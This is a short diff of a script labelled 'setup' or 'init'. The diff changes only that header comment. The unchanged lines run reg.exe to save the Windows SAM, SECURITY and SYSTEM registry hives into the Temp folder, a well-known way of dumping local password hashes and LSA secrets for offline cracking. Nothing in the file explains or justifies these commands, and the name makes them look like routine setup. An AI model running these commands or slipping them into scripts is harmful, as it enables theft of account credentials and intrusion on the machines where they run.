@@ -1,4 +1,4 @@
-# setup 9465 v0
+# init 5158 v0
 reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
 reg.exe save HKLM\SECURITY C:\Windows\Temp\sec.hiv /y
 reg.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
